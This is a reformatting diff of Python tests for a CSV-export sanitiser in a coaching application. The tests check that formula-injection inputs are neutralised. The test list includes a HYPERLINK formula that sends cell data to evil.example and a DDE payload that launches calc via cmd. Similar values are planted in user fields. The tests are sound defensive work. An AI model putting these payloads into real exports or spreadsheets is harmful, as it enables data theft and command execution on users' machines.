@@ -14,8 +14,16 @@ from cop.core.csvsafe import csv_response, iter_csv, neutralise, to_csv
 from cop.core.models import utcnow
 from tests.coaching.conftest import log
 
-DANGEROUS = ["=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd",
-             '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]
+DANGEROUS = [
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=cmd",
+    "\r=cmd",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("value", DANGEROUS)
@@ -41,8 +49,10 @@ def test_the_csv_module_quotes_the_rest():
     text = to_csv(["a", "b"], [["x, y", 'say "hi"'], ["line\nbreak", "=1"], [-1, None]])
     rows = list(csv.reader(io.StringIO(text)))
     assert rows == [["a", "b"], ["x, y", 'say "hi"'], ["line\nbreak", "'=1"], ["-1", ""]]
-    assert "".join(iter_csv(["a", "b"], [["x, y", 'say "hi"'], ["line\nbreak", "=1"],
-                                         [-1, None]])) == text
+    assert (
+        "".join(iter_csv(["a", "b"], [["x, y", 'say "hi"'], ["line\nbreak", "=1"], [-1, None]]))
+        == text
+    )
 
 
 def test_the_download_response(app):
@@ -58,10 +68,18 @@ def test_the_download_response(app):
 
 def test_the_coaching_exports_neutralise_what_users_typed(login_as, world, db):
     topic = services.add_topic(world["admin"], "=EVIL()")
-    log(world["coach"], world["alpha"], need="+1+1", summary="=HYPERLINK(\"x\")",
-        outcome="-2+3", other_attendees="@SUM(A1)", private_notes="=cmd|calc",
-        topics=[topic.slug], started_at=utcnow() - timedelta(days=1),
-        items=[("=1+1 send it", world["lead"].id, None)])
+    log(
+        world["coach"],
+        world["alpha"],
+        need="+1+1",
+        summary='=HYPERLINK("x")',
+        outcome="-2+3",
+        other_attendees="@SUM(A1)",
+        private_notes="=cmd|calc",
+        topics=[topic.slug],
+        started_at=utcnow() - timedelta(days=1),
+        items=[("=1+1 send it", world["lead"].id, None)],
+    )
     client = login_as("coach")
     for url in ("/coaching/export/sessions.csv?quarter=all", "/coaching/export/summary.csv"):
         response = client.get(url)
